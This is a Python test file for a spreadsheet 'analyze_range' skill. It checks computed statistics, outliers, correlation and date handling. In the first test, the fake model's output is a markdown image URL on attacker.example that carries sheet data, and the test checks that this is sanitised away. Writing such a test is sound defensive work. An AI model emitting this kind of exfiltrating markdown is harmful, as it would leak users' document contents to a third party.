"""Golden tests of analyze_range: statistics computed in Python, the model narrates them."""

import json
import statistics

from backend.skills.sdk import FakeModel, assert_document_is_data, load_skill, skill_folder

SKILL = load_skill(skill_folder(__file__))
VALUES = [
    ["Month", "Visitors", "Sales"],
    ["Jan", 100, 10],
    ["Feb", 120, 12],
    ["Mar", "", 13],
    ["Apr", 130, 14],
    ["May", 900, 95],
    ["Jun", 125, 12.5],
]
DATA = {"range": {"address": "Sheet1!A1:C7", "values": VALUES}}


def test_statistics_reach_the_model_as_data_and_the_output():
    """The statistics (with sheet-derived column names) are spotlighted; the narrative is sanitised."""
    model = FakeModel("May is an outlier. ![chart](https://attacker.example/x.png?d=Visitors)")
    output = SKILL.invoke(DATA, model)
    request = model.requests[0]
    assert_document_is_data(request, json.dumps(output["statistics"], ensure_ascii=False))
    assert_document_is_data(request, "Sheet1!A1:C7")  # the address names the sheet: document content too
    assert output["narrative"] == "May is an outlier."
    assert output["chart"]["type"] == "column"


def test_the_numbers_are_exact():
    """Types, missing values, distribution, IQR outliers and correlation match independent computation."""
    stats = SKILL.invoke(DATA, FakeModel("ok"))["statistics"]
    assert stats["header"] is True and stats["rows"] == 6
    month, visitors, sales = stats["profiles"]
    assert month["type"] == "text" and month["text"]["distinct"] == 6
    assert visitors["type"] == "number" and visitors["missing"] == 1
    numbers = [100, 120, 130, 900, 125]
    assert visitors["numeric"]["mean"] == round(statistics.fmean(numbers), 6)
    assert visitors["numeric"]["median"] == 125
    assert visitors["numeric"]["outliers"] == [{"row": 2, "value": 100.0}, {"row": 6, "value": 900.0}]  # Q1 120, Q3 130
    assert sales["numeric"]["outlier_count"] == 1
    pairs = [(100, 10), (120, 12), (130, 14), (900, 95), (125, 12.5)]
    expected_r = statistics.correlation([a for a, _ in pairs], [b for _, b in pairs])
    assert stats["correlations"][0]["columns"] == ["Visitors", "Sales"]
    assert abs(stats["correlations"][0]["r"] - expected_r) < 1e-5
    assert stats["correlations"][0]["pairs"] == 5


def test_a_date_column_is_dates_and_sales_are_charted_over_time():
    """With the pane's number formats a column of serials is dates (earliest, latest), not numbers to average."""
    values = [["Day", "Sales"], [45292, 10], [45323, 12], [45352, 9]]
    formats = [[], ["d-mmm-yy"], ["d-mmm-yy"], ["d-mmm-yy"]]
    data = {"range": {"address": "Sheet1!A1:B4", "values": values, "number_formats": formats}}
    output = SKILL.invoke(data, FakeModel("ok"))
    day = output["statistics"]["profiles"][0]
    assert day["type"] == "date" and "numeric" not in day
    assert day["dates"] == {"count": 3, "earliest": "2024-01-01", "latest": "2024-03-01", "distinct": 3}
    assert output["chart"] == {"type": "line", "x": "Day", "y": ["Sales"], "reason": "numbers over time"}


def test_a_1904_workbooks_dates_are_profiled_in_its_date_system():
    """An old Mac workbook holds 2024-01-01 as 43830: with `date_system: 1904` it is profiled as that day."""
    values = [["Day", "Sales"], [43830, 10], [43861, 12], [43890, 9]]
    formats = [[], ["d-mmm-yy"], ["d-mmm-yy"], ["d-mmm-yy"]]
    data = {"range": {"address": "Sheet1!A1:B4", "values": values, "number_formats": formats, "date_system": 1904}}
    day = SKILL.invoke(data, FakeModel("ok"))["statistics"]["profiles"][0]
    assert day["dates"] == {"count": 3, "earliest": "2024-01-01", "latest": "2024-03-01", "distinct": 3}
